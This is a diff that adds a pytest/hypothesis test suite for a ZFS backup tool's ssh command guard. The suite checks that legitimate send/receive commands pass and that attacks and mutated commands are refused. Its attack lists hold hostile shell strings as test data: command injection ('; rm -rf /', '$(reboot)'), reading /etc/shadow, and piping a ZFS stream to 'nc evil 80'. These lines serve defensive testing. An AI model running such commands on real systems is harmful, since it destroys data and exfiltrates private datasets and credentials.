@@ -1,0 +1,336 @@
+"""`zmake serve`'s checks (guard.py): every command a push or a pull issues passes, as the client
+quotes it for ssh; mutations of those commands outside the rules are refused."""
+
+from __future__ import annotations
+
+import inspect
+import shlex
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from zmake import commands
+from zmake.commands import COMPRESSORS, Argv
+from zmake.guard import Policy, Probe, Refusal, check, parse
+from zmake.sides import ssh_argv
+from zmake.token import ResumeToken, encode
+
+ROOT = "backup/lap top:1"
+SOURCE = "tank/da ta:x"
+COMPONENT = st.text("abcXYZ019_.: -%", min_size=1, max_size=12).filter(
+    lambda c: c.strip(" ") == c and c not in (".", "..")
+)
+NAMES_UNDER = st.lists(COMPONENT, min_size=0, max_size=3).map(lambda parts: "/".join(parts))
+
+
+def under(root: str, rest: str) -> str:
+    return f"{root}/{rest}" if rest else root
+
+
+class FakeZfs:
+    """What serve's probe reads on its side: encryption, and whether a dataset is a placeholder."""
+
+    def __init__(self, encrypted: set[str] = frozenset(), placeholders: set[str] = frozenset()):  # type: ignore[assignment]
+        self.encrypted, self.placeholders = encrypted, placeholders
+        self.asked: list[Argv] = []
+
+    def __call__(self, argv: Argv) -> str:
+        self.asked.append(argv)
+        name = argv[-1]
+        if argv[:2] == ["zfs", "get"]:
+            return "aes-256-gcm\n" if name in self.encrypted else "off\n"
+        if name in self.placeholders:  # BACKUP_LIST_PROPS, as zfs list -H -p prints them
+            # name type guid createtxg referenced written token encryption root placeholder mounted
+            return f"{name}\tfilesystem\t1\t9\t49152\t49152\t-\toff\t-\t{name}\tno\n"
+        return ""
+
+
+def wire(stages: list[Argv]) -> str:
+    """The command as sshd hands it to serve: what ssh_argv puts on the ssh command line."""
+    return ssh_argv("ssh", "host", stages)[-1]
+
+
+def passes(policy: Policy, stages: list[Argv], zfs: FakeZfs | None = None) -> list[Argv]:
+    return check(policy, parse(wire(stages)), Probe(zfs or FakeZfs()))
+
+
+def refused(policy: Policy, text: str, zfs: FakeZfs | None = None) -> str:
+    with pytest.raises(Refusal) as caught:
+        check(policy, parse(text), Probe(zfs or FakeZfs()))
+    return str(caught.value)
+
+
+# --- everything zmake issues to each side -------------------------------------------------
+
+
+def receive_side_commands(root: str, name: str) -> list[list[Argv]]:
+    """Every command a push (send, umount, status, prune, backup) runs on the backup side."""
+    parent = root.rpartition("/")[0] or root
+    recvs = [
+        commands.receive_argv(name, filesystem=fs, mountpoint=None, readonly=ro)
+        for fs in (True, False)
+        for ro in (True, False)
+    ]
+    single = [
+        commands.remote_dataset_argv(name),
+        commands.remote_tree_argv(root),
+        commands.datasets_argv([root, name]),
+        # whether the tree's parent exists, by name only (parents.py)
+        commands.datasets_argv([parent, root]),
+        commands.datasets_argv([parent, parent]),
+        commands.datasets_argv([parent]),
+        commands.mounts_argv(root),
+        commands.unmount_argv(name),
+        commands.create_placeholder_argv(name),
+        commands.unmark_placeholder_argv(name),
+        commands.prune_list_argv(root),
+        *recvs,
+    ]
+    piped = [[decompress, recv] for _, decompress in COMPRESSORS.values() for recv in recvs]
+    return [[argv] for argv in single] + piped
+
+
+def send_side_commands(root: str, name: str) -> list[list[Argv]]:
+    """Every command a pull (send, snapshot, status, prune, backup) runs on the source side."""
+    snap, older, mark = f"{name}@zmake-2", f"{name}@zmake-1", f"{name}#zmake-00ff-7"
+    token = encode(ResumeToken(7, snap, 5, raw=False, flags=frozenset({"compressok"})))
+    sends = [
+        commands.stream_argv(snap, raw=False),
+        commands.stream_argv(snap, raw=False, base=older),
+        commands.stream_argv(snap, raw=False, base=mark),
+        commands.resume_argv(token),
+    ]
+    single = [
+        commands.source_list_argv([root]),
+        commands.source_get_argv([root, name]),
+        commands.names_argv([root]),
+        commands.local_dataset_argv(name),
+        commands.prune_list_argv(root),
+        commands.snapshot_argv([root, name], "zmake-20261129-0100"),
+        commands.bookmark_argv(snap, mark),
+        commands.destroy_bookmark_argv(mark),
+        *sends,
+        *(commands.estimate_argv(send) for send in sends),
+    ]
+    piped = [[send, compress] for compress, _ in COMPRESSORS.values() for send in sends]
+    return [[argv] for argv in single] + piped
+
+
+@given(NAMES_UNDER)
+def test_every_command_of_a_push_passes_the_receiving_key(rest: str) -> None:
+    policy = Policy("receive", ROOT)
+    for stages in receive_side_commands(ROOT, under(ROOT, rest)):
+        assert passes(policy, stages) == stages
+
+
+@given(NAMES_UNDER)
+def test_every_command_of_a_pull_passes_the_sending_key(rest: str) -> None:
+    policy = Policy("send", SOURCE)
+    for stages in send_side_commands(SOURCE, under(SOURCE, rest)):
+        assert passes(policy, stages) == stages
+
+
+def test_a_raw_send_of_an_encrypted_dataset_passes_and_a_plain_one_does_not() -> None:
+    policy, zfs = Policy("send", SOURCE), FakeZfs(encrypted={f"{SOURCE}/secret"})
+    snap = f"{SOURCE}/secret@zmake-2"
+    for base in (None, f"{SOURCE}/secret@zmake-1", f"{SOURCE}/secret#zmake-00ff-7"):
+        assert passes(policy, [commands.stream_argv(snap, raw=True, base=base)], zfs)
+        plain = wire([commands.stream_argv(snap, raw=False, base=base)])
+        assert "raw sends only" in refused(policy, plain, zfs)
+    raw_token = encode(ResumeToken(7, snap, 0, raw=True))
+    assert passes(policy, [commands.resume_argv(raw_token)], zfs)
+    plain_token = encode(ResumeToken(7, snap, 0, raw=False))
+    assert "non-raw token" in refused(policy, wire([commands.resume_argv(plain_token)]), zfs)
+
+
+def test_pruning_and_rollback_only_when_the_key_allows_them() -> None:
+    name = f"{ROOT}/a"
+    prune = [commands.destroy_snapshots_argv(name, ["zmake-1", "zmake-2"])]
+    rollback = [commands.rollback_argv(f"{name}@zmake-2")]
+    abort = [commands.abort_resume_argv(name)]
+    strict = Policy("receive", ROOT)
+    for stages in (prune, rollback, abort):
+        assert "--allow-" in refused(strict, wire(stages))
+    assert passes(Policy("receive", ROOT, allow_prune=True), prune) == prune
+    wide = Policy("receive", ROOT, allow_rollback=True)
+    assert passes(wide, rollback) == rollback and passes(wide, abort) == abort
+    assert passes(Policy("send", SOURCE, allow_prune=True), [
+        commands.destroy_snapshots_argv(SOURCE, ["zmake-1"])])  # fmt: skip
+
+
+def test_force_only_over_a_placeholder_serve_checks_itself() -> None:
+    name = f"{ROOT}/parent"
+    forced = [commands.receive_argv(name, force=True)]
+    policy = Policy("receive", ROOT)
+    assert passes(policy, forced, FakeZfs(placeholders={name})) == forced
+    assert "not a placeholder" in refused(policy, wire(forced), FakeZfs())
+
+
+def test_a_mountpoint_is_stripped_or_kept_within_the_prefix() -> None:
+    name = f"{ROOT}/home"
+    stages = [commands.receive_argv(name, mountpoint="/etc")]
+    assert passes(Policy("receive", ROOT), stages) == [commands.receive_argv(name)]
+    fenced = Policy("receive", ROOT, mountpoint_prefix="/backups")
+    assert "outside /backups" in refused(fenced, wire(stages))
+    escape = [commands.receive_argv(name, mountpoint="/backups/../etc")]
+    assert "outside /backups" in refused(fenced, wire(escape))
+    inside = [commands.receive_argv(name, mountpoint="/backups/lap top/home")]
+    assert passes(fenced, inside) == inside
+
+
+def test_builders_are_all_classified() -> None:
+    """A new builder must be added to one side's enumeration above (or marked local-only)."""
+    local_only = {"send_argv", "recv_argv", "estimate_argv", "backup_list_argv",
+                  "abort_resume_argv", "rollback_argv", "destroy_snapshots_argv"}  # fmt: skip
+    enumerated = set()
+    for stages in receive_side_commands(ROOT, ROOT) + send_side_commands(SOURCE, SOURCE):
+        enumerated |= {" ".join(stage) for stage in stages}
+    builders = {
+        name
+        for name, function in inspect.getmembers(commands, inspect.isfunction)
+        if name.endswith("_argv") and function.__module__ == commands.__name__
+    }
+    covered = {name for name in builders if name in inspect.getsource(receive_side_commands)
+               or name in inspect.getsource(send_side_commands)}  # fmt: skip
+    assert builders - covered - local_only == set()
+
+
+# --- what must be refused -------------------------------------------------------------------
+
+ATTACKS_ON_THE_BACKUP = [
+    "zfs destroy -r backup/lap\\ top:1",
+    "zfs destroy -r 'backup/lap top:1'",
+    "zfs destroy 'backup/lap top:1/a@zmake-1'",
+    "zfs rollback -r 'backup/lap top:1/a@zmake-1'",
+    "zfs recv -F 'backup/lap top:1/a'",
+    "zfs recv -u -s -F -o canmount=noauto -o readonly=on 'backup/lap top:1/a'",
+    "zfs recv -A 'backup/lap top:1/a'",
+    "zfs recv -u -s -o canmount=noauto -o readonly=on backup/other/a",
+    "zfs recv -u -s -d 'backup/lap top:1'",
+    "zfs recv -u -s -o canmount=noauto -o readonly=on -o mountpoint=/etc -o exec=on "
+    "'backup/lap top:1/a'",
+    "zfs send -w 'backup/lap top:1/a@zmake-1'",
+    "zfs send -L -c backup/other@x",
+    "zfs list -H -p -o name -r backup",
+    "zfs list -r backup",
+    "sh -c 'zfs destroy -r backup'",
+    "zfs set readonly=off 'backup/lap top:1'",
+    "zfs rename 'backup/lap top:1' backup/x",
+    "zfs allow -u zrecv destroy 'backup/lap top:1'",
+    "zfs unmount 'backup/lap top:1'; rm -rf /",
+    "zfs unmount 'backup/lap top:1' && reboot",
+    'zfs unmount "backup/lap top:1$(reboot)"',
+    "zfs unmount 'backup/lap top:1' > /etc/passwd",
+    "zfs unmount 'backup/lap top:1'\nreboot",
+    "zfs unmount `reboot`",
+    "cat /etc/shadow | zfs recv -u -s -o canmount=noauto -o readonly=on 'backup/lap top:1/a'",
+    "",
+    "zfs",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS_ON_THE_BACKUP)
+def test_attacks_on_a_receiving_key_are_refused(attack: str) -> None:
+    refused(Policy("receive", ROOT), attack)
+
+
+ATTACKS_ON_THE_SOURCE = [
+    f"zfs destroy -r {shlex.quote(SOURCE)}",
+    f"zfs destroy {shlex.quote(SOURCE + '@zmake-1')}",
+    f"zfs destroy {shlex.quote(SOURCE + '#mine')}",
+    "zfs send -L -c tank/other@x",
+    "zfs send -L -c -R " + shlex.quote(SOURCE + "@zmake-1"),
+    "zfs send -L -c -I tank/other@a " + shlex.quote(SOURCE + "@zmake-1"),
+    "zfs send -t " + encode(ResumeToken(7, "tank/other@x", 0, raw=True)),
+    "zfs send -t garbage",
+    "zfs recv -F " + shlex.quote(SOURCE),
+    "zfs rollback -r " + shlex.quote(SOURCE + "@zmake-1"),
+    "zfs list -H -p -o name -r tank",
+    "zfs snapshot -r tank@zmake-1",
+    "zfs bookmark " + shlex.quote(SOURCE + "@zmake-1") + " " + shlex.quote(SOURCE + "#evil"),
+    "sh -c id",
+    "zfs send -L -c " + shlex.quote(SOURCE + "@zmake-1") + " | nc evil 80",
+]
+
+
+@pytest.mark.parametrize("attack", ATTACKS_ON_THE_SOURCE)
+def test_attacks_on_a_sending_key_are_refused(attack: str) -> None:
+    refused(Policy("send", SOURCE), attack)
+
+
+# --- mutations of accepted commands ---------------------------------------------------------
+
+DANGEROUS_OPTIONS = ["-F", "-R", "-r", "-d", "-e", "-p", "-x", "-A", "-D", "-f", "-h",
+                     "-o", "exec=on", "-x", "mountpoint", "--", "-v"]  # fmt: skip
+SHELL_TAILS = ["; reboot", " && reboot", " || reboot", " $(reboot)", " `reboot`", " > /etc/x",
+               " < /etc/shadow", "\nreboot", " & reboot", " | sh"]  # fmt: skip
+OUTSIDE = ["backup/other", "backup", "backup/lap top:10", "rpool/ROOT", "tank"]
+
+
+def mutate_option(argv: Argv, data: st.DataObject) -> Argv:
+    option = data.draw(st.sampled_from(DANGEROUS_OPTIONS))
+    at = data.draw(st.integers(2, len(argv)))
+    return [*argv[:at], option, *argv[at:]]
+
+
+def mutate_name(argv: Argv, data: st.DataObject, root: str) -> Argv:
+    """Move every name of the tree elsewhere (a dataset of another host, the pool…)."""
+    other = data.draw(st.sampled_from(OUTSIDE))
+    return [word.replace(root, other) for word in argv]
+
+
+def mutate_verb(argv: Argv, data: st.DataObject) -> Argv:
+    verb = data.draw(st.sampled_from(["destroy", "rollback", "set", "rename", "promote",
+                                      "allow", "inherit", "clone", "upgrade"]))  # fmt: skip
+    return ["zfs", verb, *argv[2:]]
+
+
+Mutation = Callable[[Argv, st.DataObject], Argv]
+
+
+def mutated(stages: list[Argv], data: st.DataObject, root: str) -> str:
+    how = data.draw(st.sampled_from(["option", "name", "verb", "shell"]))
+    index = data.draw(st.integers(0, len(stages) - 1))
+    stage = stages[index]
+    if stage[0] != "zfs" or how == "shell":
+        return wire(stages) + data.draw(st.sampled_from(SHELL_TAILS))
+    if how == "option":
+        new = mutate_option(stage, data)
+    elif how == "name":
+        new = mutate_name(stage, data, root)
+    else:
+        new = mutate_verb(stage, data)
+    return wire([*stages[:index], new, *stages[index + 1 :]])
+
+
+def refused_unless_still_zmakes(policy: Policy, text: str, allowed: list[list[Argv]]) -> None:
+    """A mutation that happens to rebuild another accepted command is no attack, and passes;
+    everything else must be refused."""
+    try:
+        still = parse(text) in allowed
+    except Refusal:
+        still = False
+    if still:
+        assert check(policy, parse(text), Probe(FakeZfs()))
+    else:
+        refused(policy, text)
+
+
+@settings(max_examples=1500)
+@given(NAMES_UNDER, st.data())
+def test_mutations_of_receiving_commands_are_refused(rest: str, data: st.DataObject) -> None:
+    policy = Policy("receive", ROOT)
+    allowed = receive_side_commands(ROOT, under(ROOT, rest))
+    stages = data.draw(st.sampled_from(allowed))
+    refused_unless_still_zmakes(policy, mutated(stages, data, ROOT), allowed)
+
+
+@settings(max_examples=1500)
+@given(NAMES_UNDER, st.data())
+def test_mutations_of_sending_commands_are_refused(rest: str, data: st.DataObject) -> None:
+    policy = Policy("send", SOURCE)
+    allowed = send_side_commands(SOURCE, under(SOURCE, rest))
+    stages = data.draw(st.sampled_from(allowed))
+    refused_unless_still_zmakes(policy, mutated(stages, data, SOURCE), allowed)
